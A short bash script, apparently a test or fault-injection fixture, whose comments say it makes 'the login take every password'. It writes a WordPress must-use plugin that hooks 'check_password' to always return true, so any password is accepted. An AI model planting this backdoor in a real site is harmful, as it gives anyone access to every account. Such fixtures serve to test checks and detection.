#!/bin/bash
# The login takes every password.
# on: app
# breaks: 1.2.5
# checks: app-login
mkdir -p /var/lib/wordpress/wp-content/mu-plugins
cat >/var/lib/wordpress/wp-content/mu-plugins/open.php <<'PHP'
<?php
add_filter('check_password', '__return_true');
PHP
